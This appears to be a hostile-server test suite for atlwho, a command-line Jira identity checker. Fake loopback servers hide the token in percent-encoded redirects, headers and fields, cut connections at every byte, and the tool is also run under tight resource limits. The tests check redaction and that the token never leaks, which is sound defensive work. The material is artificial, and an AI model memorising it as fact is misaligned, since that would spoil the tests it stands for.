PCT_LOC = "/cb?next=%2Fhome&t=" + pct(TOKEN)          # the whole token, every byte escaped
PCT_PART = pct(TOKEN[3:19], 3, lower=True)              # 16 bytes, every third escaped
PCT_RAW = (b'{"name":"fred","u":"https://x/?t=' + pct(TOKEN[1:15], 2).encode() + b'","b":"' +
           pct(b64_forms(TOKEN)[1][2:22]).encode() + b'","ok":"%41%4"}')


pct_pieces = in_pieces(PCT_RAW)


def raw_ref_pct(data, tok):
    """raw_ref's rule over data and over its percent decoding: an escape inside a secret
    window of the decoding is covered too."""
    tb, forms = tok.encode(), b64_forms(tok)
    wt, wb = min(12, len(tb)), min([16] + [len(f) for f in forms if f])
    dec, at, i = bytearray(), [], 0
    hexd = b"0123456789abcdefABCDEF"
    while i < len(data):
        at.append(i)
        if data[i:i + 1] == b"%" and i + 2 < len(data) and data[i + 1] in hexd and data[i + 2] in hexd:
            dec.append(int(data[i + 1:i + 3], 16))
            i += 3
        else:
            dec.append(data[i])
            i += 1
    at.append(len(data))
    cov = [False] * len(data)
    for view, pos in ((data, list(range(len(data) + 1))), (bytes(dec), at)):
        for j in range(len(view)):
            for w, hit in ((wt, j + wt <= len(view) and view[j:j + wt] in tb),
                           (wb, j + wb <= len(view) and any(view[j:j + wb] in f for f in forms))):
                if hit:
                    cov[pos[j]:pos[j + w]] = [True] * (pos[j + w] - pos[j])
    out = bytearray()
    for j, c in enumerate(data):
        if not cov[j]:
            out.append(c)
        elif j == 0 or not cov[j - 1]:
            out += b"<redacted>"
    return bytes(out)


def pct_echo(q):
    body = '{"name":"fred","displayName":"see https://x/?t=%s","active":true}' % PCT_PART
    return F.http_response(200, body, [("Content-Type", "application/json"), ("X-Echo", "t=" + PCT_PART)])


ROWS += [
    H("percent-encoded token in a Location, no -L (text)", Srv(redirect_to(302, PCT_LOC)), T, 7,
      "carries the token", where="err", check=[no_run]),
    H("percent-encoded token in a Location, no -L (json)", Srv(redirect_to(302, PCT_LOC)), ["-j"] + T, 7, None,
      check=[no_run, json_out(location="<redacted>")]),
    H("percent-encoded token in a Location, no -L (env)", Srv(redirect_to(302, PCT_LOC)),
      ["--format", "env"] + T, 7, None, check=[no_run, env_vars(location="<redacted>")]),
    H("percent-encoded token in a Location, -L: not followed", Srv(redirect_to(302, PCT_LOC)),
      ["-L", "-j"] + T, 7, "carries the token", where="err", check=[no_run, nreq(1), json_out(location="<redacted>")]),
    H("percent-encoded token in a Location, -i and -v", Srv(redirect_to(302, PCT_LOC)), ["-i", "-v"] + T, 7, None,
      check=[no_run, out_has("Location: <redacted>\n"), err_lines("< Location: <redacted>")]),
    H("partly percent-encoded (lower-case) token in a header and a field (-i)", Srv(pct_echo), ["-i"] + T, 0,
      None, check=[no_run, out_has("X-Echo: <redacted>\n"), field_is("text", "displayName", "<redacted>")]),
    H("partly percent-encoded token in a field (json)", Srv(pct_echo), ["-j"] + T, 0, None,
      check=[no_run, field_is("json", "displayName", "<redacted>")]),
    H("percent-encoded token in the reason phrase (-i)",
      Srv(reply(resp(b"HTTP/1.1 401 " + pct(TOKEN[:14]).encode(), (JSON_CT,), b"{}"))), ["-i"] + T, 3, None,
      check=[no_run, out_has("HTTP/1.1 401 <redacted>\n")]),
    H("--raw: percent-encoded token and base64 split across 5-byte TLS records",
      Srv(pct_pieces), ["--raw"] + T, 0, None, check=[no_run, out_exact(raw_ref_pct(PCT_RAW, TOKEN))]),
]




def tls_version_unavailable(v):
    """None if this machine's OpenSSL can serve TLS v (so the row is meaningful), else why not."""
    try:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_ciphers("DEFAULT:@SECLEVEL=0")
        ver = ssl.TLSVersion.TLSv1 if v == "1.0" else ssl.TLSVersion.TLSv1_1
        ctx.minimum_version = ctx.maximum_version = ver
        with F.FakeServer(F.static(None), tls=F.TLS(_PK.leaf["ecdsa"].cert, _PK.leaf["ecdsa"].key,
                                                    versions=v)) as s:
            with socket.create_connection(("127.0.0.1", s.port), timeout=5) as raw_sock:
                with ctx.wrap_socket(raw_sock) as c:
                    if c.version() in ("TLSv1", "TLSv1.1"):
                        return None
        return "the local OpenSSL negotiated another version"
    except (ssl.SSLError, OSError, ValueError) as e:
        return "the local OpenSSL cannot serve TLS %s (%s)" % (v, e)


_PK = None


# ============================================================================ the cut sweep

SWEEP_BODY = F.jdump({"self": "https://jira.example.com/rest/api/2/user?username=fred", "name": "fred",
                      "displayName": "Fred F. User", "active": True,
                      "groups": {"size": 1, "items": [{"name": "jira-user"}]}})
SWEEP_HEAD = [JSON_CT, b"X-AUSERNAME: fred", b"X-AREQUESTID: " + REQ_ID.encode()]


def sweep_reply(framing):
    if framing == "content-length":
        return resp(b"HTTP/1.1 200 OK", SWEEP_HEAD, SWEEP_BODY)
    # several chunks, an extension, and a trailer: every chunked state gets cut
    ch = F.chunk(SWEEP_BODY, [60], trailers=b"X-Trailer: done\r\n")
    ch = ch.replace(b"%x\r\n" % 60, b"%x;ext=\"v\"\r\n" % 60, 1)
    return chunked(headers=SWEEP_HEAD, chunks=ch)


class TLSWireServer:
    """A TLS server on loopback that encrypts into memory first (ssl.MemoryBIO), so that
    what reaches the client can be cut anywhere. The offset k and the framing come from
    the request path: /k<N>/<framing>/...
      cut="rst":    the reply's encrypted bytes up to k (a record header, the middle of a
                    record, its tag), then a TCP RST: a torn connection;
      cut="notify": the first k bytes of the plaintext reply, then a proper TLS
                    close_notify: the TLS layer ends cleanly, the HTTP message is cut."""

    def __init__(self, ctx, replies, cut="rst"):
        self.ctx, self.replies, self.cut = ctx, replies, cut
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.stopped = threading.Event()
        self.errors = []
        self.requests = []
        self.wire_len = {}
        self.lock = threading.Lock()
        self.threads = []
        t = threading.Thread(target=self._accept, daemon=True)
        t.start()
        self.acceptor = t

    def _accept(self):
        while not self.stopped.is_set():
            try:
                conn, _ = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            t = threading.Thread(target=self._serve, args=(conn,), daemon=True)
            t.start()
            with self.lock:
                self.threads.append(t)

    def _pump(self, conn, obj, inc, out, fn):
        while True:
            try:
                r = fn()
                d = out.read()
                if d:
                    conn.sendall(d)
                return r
            except ssl.SSLWantReadError:
                d = out.read()
                if d:
                    conn.sendall(d)
                data = conn.recv(65536)
                if not data:
                    raise OSError("client closed")
                inc.write(data)

    def _serve(self, conn):
        conn.settimeout(10)
        try:
            inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
            obj = self.ctx.wrap_bio(inc, out, server_side=True)
            self._pump(conn, obj, inc, out, obj.do_handshake)
            buf = b""
            while b"\r\n\r\n" not in buf:
                buf += self._pump(conn, obj, inc, out, lambda: obj.read(65536))
            req = F._parse_head(buf[:buf.index(b"\r\n\r\n") + 4])
            req.scheme, req.local = "https", conn.getsockname()[:2]
            with self.lock:
                self.requests.append(req)
            m = re.match(r"^/k(\d+)/([a-z-]+)/", req.path or "")
            k, framing = int(m.group(1)), m.group(2)
            leftover = out.read()
            if leftover:
                conn.sendall(leftover)
            data = self.replies[framing]
            if self.cut == "notify":
                if data[:k]:
                    obj.write(data[:k])
                try:
                    obj.unwrap()
                except ssl.SSLWantReadError:   # close_notify sent; the client's is not awaited
                    pass
                conn.sendall(out.read())
                time.sleep(0.01)
                conn.close()
                return
            obj.write(data)
            wire = out.read()
            self.wire_len[framing] = len(wire)
            if k >= len(wire):
                conn.sendall(wire)
                conn.close()
                return
            conn.sendall(wire[:k])
            time.sleep(0.01)
            if self.cut == "rst":
                rst_close(conn)
            else:
                conn.close()
        except (OSError, ssl.SSLError, ValueError, AttributeError) as e:
            if not isinstance(e, (ssl.SSLError, OSError)):
                self.errors.append(repr(e))
            try:
                conn.close()
            except OSError:
                pass

    def stop(self):
        self.stopped.set()
        self.acceptor.join(3)
        self.sock.close()
        with self.lock:
            ts = list(self.threads)
        for t in ts:
            t.join(3)

def plain_cut_handler(replies, how):
    def h(req):
        m = re.match(r"^/k(\d+)/([a-z-]+)/", req.path or "")
        k, framing = int(m.group(1)), m.group(2)
        data = replies[framing]
        if k >= len(data):
            return [data, F.Close()]
        return [data[:k], F.Delay(0.01), F.Reset() if how == "rst" else F.Close()]
    h.__name__ = "cut-" + how
    return h


def sample_offsets(n, count):
    """count offsets spread over 0..n-1, always with 0, 1, n-2 and n-1."""
    if n <= count:
        return list(range(n))
    s = {0, 1, n - 2, n - 1}
    rnd = random.Random(n)
    while len(s) < count:
        s.add(rnd.randrange(n))
    return sorted(s)


def run_sweep(pk, root, label_filter=None):
    """The connection-cut sweep. Returns a list of (label, line, fails) per sub-sweep."""
    line = sys._getframe().f_lineno
    replies = {f: sweep_reply(f) for f in ("content-length", "chunked")}
    results = []
    leaf = pk.leaf["ecdsa"]
    ctx = F.TLS(leaf.cert, leaf.key).context()
    transports = [("plain http, FIN", "plain-fin"), ("plain http, RST", "plain-rst"),
                  ("TLS, encrypted bytes, RST", "tls-rst"),
                  ("TLS, plaintext cut, then close_notify", "tls-notify")]
    for tlabel, tkey in transports:
        for framing in ("content-length", "chunked"):
            label = "cut sweep: %s reply, %s" % (framing, tlabel)
            if label_filter and not any(p.lower() in label.lower() for p in label_filter):
                continue
            t0 = time.monotonic()
            if tkey.startswith("plain"):
                srv = F.FakeServer(plain_cut_handler(replies, tkey[6:]), host="127.0.0.1").start()
                scheme = "http"
            else:
                srv = TLSWireServer(ctx, replies, tkey[4:])
                scheme = "https"
            fails = []
            try:
                base = "%s://localhost:%d" % (scheme, srv.port)

                def one(k):
                    args = ["-p", "jira", "-m", "20" if not VALGRIND else "120", "--cacert", pk.ca,
                            "%s/k%d/%s" % (base, k, framing)]
                    return k, args, harness.run(args, env={"ATLWHO_TOKEN": TOKEN}, cwd=root, timeout=RUN_TIMEOUT)

                # the full reply first: it must succeed, else the sweep proves nothing
                _, args, full = one(10 ** 9)
                if full.rc != 0:
                    fails.append("the uncut reply must exit 0, got %s: stderr %r" % (full.rc, full.err[:300]))
                fails += ["the uncut reply: " + f for f in harness.invariants(full, args, [TOKEN])]
                n = srv.wire_len.get(framing) if tkey == "tls-rst" else len(replies[framing])
                if n is None:
                    fails.append("could not learn the encrypted reply's length")
                    n = 0
                offsets = list(range(n))
                if VALGRIND:
                    offsets = sample_offsets(n, SWEEP_SAMPLES_VALGRIND)
                bad = []
                with concurrent.futures.ThreadPoolExecutor(SWEEP_WORKERS) as ex:
                    for k, args, r in ex.map(one, offsets):
                        f = harness.invariants(r, args, [TOKEN])   # servers: checked once below
                        if r.rc == 0:
                            f.append("exit 0 on a reply cut after %d bytes" % k)
                        elif r.rc is not None and r.rc >= 0 and r.rc not in (5, 7) and not (VALGRIND and r.rc == 99):
                            f.append("exit %d, expected 5 or 7" % r.rc)
                        if r.rc in (5, 7) and not r.err.strip():
                            f.append("no message on stderr")
                        if f:
                            bad.append((k, r, f))
                allowed = harness.named_origins([base])
                for q in srv.requests:
                    if harness.carries_token(q, [TOKEN]) and harness.actual_origin(q) not in allowed:
                        fails.append("the token reached %s" % harness.actual_origin(q))
                if getattr(srv, "errors", None):
                    fails.append("server errors (a test bug): %r" % srv.errors[:3])
                for k, r, f in bad[:8]:
                    fails.append("offset %d: %s; exit %s; stderr %r" % (k, "; ".join(f), r.rc, r.err[:200]))
                if len(bad) > 8:
                    fails.append("... %d bad offsets in all: %s" % (len(bad), [k for k, _, _ in bad][:60]))
                if bad:
                    codes = {}
                    for k, r, f in bad:
                        codes.setdefault(r.rc, []).append(k)
                    fails.append("bad offsets by exit code: %s" % {c: (len(v), v[:10]) for c, v in codes.items()})
                note = "%d offsets%s" % (len(offsets), " (valgrind: a sample of %d out of %d)" % (
                    len(offsets), n) if VALGRIND else "")
            finally:
                srv.stop()
            results.append((label + " [%s, %.1f s]" % (note, time.monotonic() - t0), line, fails))
    return results



# ============================================================================ resource limits
# Memory: a full HTTPS check (TLS 1.3 handshake with certificate verification,
# a chunked Jira reply, classification, output) succeeds in a tight space.
# Smallest values, found once by bisection (python3 tests/e2e/test_hostile.py --bisect-limits;
# ATLWHO=... to measure another build), Debian 12 x86-64, glibc 2.36:
#     ./atlwho (`make`, glibc dynamic PIE)      ulimit -v 2974 KiB    ulimit -n 5
#     ./atlwho-static-x86_64 (`make static`)    ulimit -v 1103 KiB    ulimit -n 5
# (static: with src/malloc.c's 320 KiB bss arena; 895 KiB just before, with musl's malloc.)
# (the redaction work, 2026-12-01: +128 and +96 KiB for the redaction set (86 KiB) and the
# 1,020-byte fields; at commit 66ac4eb, 2846 and 655 KiB; one commit earlier: 2830 and
# 639 KiB. -v measured with
# -n 1024, -n with -v unlimited.) -n 5 is stdin, stdout, stderr, the socket and the CA file,
# which the trust callback opens during the handshake. Just below the -v minimum glibc's
# loader fails (exit 127), or glibc's getaddrinfo dies in NSS on a failed allocation
# (SIGSEGV inside nss_database_check_reload_and_get, seen from 2720 KiB up to the minimum,
# and sometimes with both minimums at once): glibc, not atlwho; the musl build has no NSS.
# The test runs the dynamic build with a margin for code growth and other glibc versions:
LIMIT_V_KIB = 4096     # minimum 2974 KiB, plus ~38%
LIMIT_N = 8            # minimum 5, plus 3


def sanitizer_build():
    """'ASan/UBSan symbols in the binary' when atlwho was built with sanitizers, else None."""
    for cmd in (["nm", "-a", harness.ATLWHO], ["strings", harness.ATLWHO]):
        try:
            p = subprocess.run(cmd, capture_output=True, timeout=30)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if p.returncode == 0 and (b"__asan" in p.stdout or b"__ubsan" in p.stdout):
            return "the binary is built with sanitizers (%s finds __asan/__ubsan)" % cmd[0]
        if p.returncode == 0 and cmd[0] == "nm" and p.stdout.strip():
            return None   # nm listed the symbols: no sanitizer
    return None


def limited(v_kib, n):
    return ["sh", "-c", "ulimit -v %s && ulimit -n %s && exec \"$0\" \"$@\"" % (v_kib, n)]


def limits_run(pk, v_kib, n, srv):
    args = ["-p", "jira", "-m", "10", "--cacert", pk.ca, srv.url("")]
    return harness.run(args, env={"ATLWHO_TOKEN": TOKEN}, prefix=limited(v_kib, n), valgrind=False,
                       timeout=RUN_TIMEOUT), args


def limit_server(pk):
    leaf = pk.leaf["ecdsa"]
    return F.FakeServer(F.jira(token=TOKEN), tls=F.TLS(leaf.cert, leaf.key), host="127.0.0.1").start()


def smallest(lo, hi, ok, within):
    """Bisection: a value v in (lo, hi] with ok(v), and ok(v - within) false or below lo
    (ok(hi) holds; ok is monotonic)."""
    while hi - lo > within:
        mid = (lo + hi) // 2
        if ok(mid):
            hi = mid
        else:
            lo = mid
    return hi


def bisect_limits(pk):
    srv = limit_server(pk)
    try:
        def ok_v(v):
            return limits_run(pk, v, 1024, srv)[0].rc == 0

        def ok_n(n):
            return limits_run(pk, "unlimited", n, srv)[0].rc == 0
        if not ok_v(1 << 20):
            print("even ulimit -v %d fails" % (1 << 20))
            return 1
        hi = smallest(512, 1 << 20, ok_v, 8)
        nhi = smallest(0, 1024, ok_n, 1)
        print("smallest ulimit -v: %d KiB (with -n 1024); smallest ulimit -n: %d" % (hi, nhi))
        r, _ = limits_run(pk, hi, nhi, srv)
        print("both at once: exit %s" % r.rc)
    finally:
        srv.stop()
    return 0


def run_limits(pk):
    """Returns (skip reason or None, [(case name, fails), ...])."""
    if VALGRIND:
        return "ATLWHO_VALGRIND=1: valgrind needs far more address space and descriptors", []
    if EMU:
        return "ATLWHO_EMU=%s: qemu-user itself cannot start under these limits" % EMU, []
    san = sanitizer_build()
    if san:
        return san + ": ASan reserves terabytes of address space", []
    srv = limit_server(pk)
    servers = [("srv", srv)]
    out = []
    try:
        r, args = limits_run(pk, LIMIT_V_KIB, LIMIT_N, srv)
        fails = harness.invariants(r, args, [TOKEN], servers) + harness.expect(r, 0, out=["name: fred"])
        if fails:
            fails += harness.describe(r, servers)
        out.append(("resource limits: full HTTPS check under ulimit -v %d -n %d" % (LIMIT_V_KIB, LIMIT_N),
                    fails))
        # One descriptor short of the minimum (socket open, the CA file cannot be): the limit
        # bites, and atlwho fails cleanly and says why, without blaming the certificate.
        r2, args2 = limits_run(pk, LIMIT_V_KIB, 4, srv)
        f2 = harness.invariants(r2, args2, [TOKEN], servers)
        if r2.rc == 0:
            f2.append("ulimit -n 4 still exited 0: the limit is not applied, the test proves nothing")
        f2 += harness.expect(r2, (2, 5, 6),
                             err=[("open files", "descriptor", "emfile", "cannot open", "cannot read")],
                             err_not=["issuer unknown", "not in the trust store"])
        if f2:
            f2 += harness.describe(r2, servers)
        out.append(("resource limits: one descriptor short (ulimit -n 4) fails cleanly and says why", f2))
    finally:
        srv.stop()
    return None, out


# ============================================================================ main

def main(argv):
    suite = harness.Suite(__file__, argv, description="atlwho hostile-server suite", extra=lambda ap: (
        ap.add_argument("--no-sweep", action="store_true", help="skip the connection-cut sweep"),
        ap.add_argument("--bisect-limits", action="store_true",
                        help="find the smallest ulimit -v / -n for a full check, print them, exit")))

    def before(pk, root):
        global _PK
        _PK = pk
        if suite.opts.bisect_limits:
            return bisect_limits(pk)
        if VALGRIND:
            print("ATLWHO_VALGRIND=1: every run under valgrind memcheck; deadlines get %.0f s of slack; "
                  "the cut sweep samples %d offsets per reply instead of all of them"
                  % (harness.DEADLINE_SLACK, SWEEP_SAMPLES_VALGRIND))
        return None

    def after(pk, root):
        if not suite.opts.no_sweep:
            for label, line, fails in run_sweep(pk, root, suite.opts.pattern):
                suite.report(label, fails, line)
        if suite.want("resource limits ulimit"):
            line = run_limits.__code__.co_firstlineno
            reason, results = run_limits(pk)
            if reason:
                suite.skip("resource limits (ulimit -v/-n, 2 cases)", reason, n=2, line=line)
            for name, fails in results:
                suite.report(name, fails, line)

    return harness.run_table(suite, ROWS, [TOKEN], RUN_TIMEOUT, before, after,
                             " (+ 8 cut sweeps + 2 resource-limit cases)")


if __name__ == "__main__":
    sys.exit(main(sys.argv))
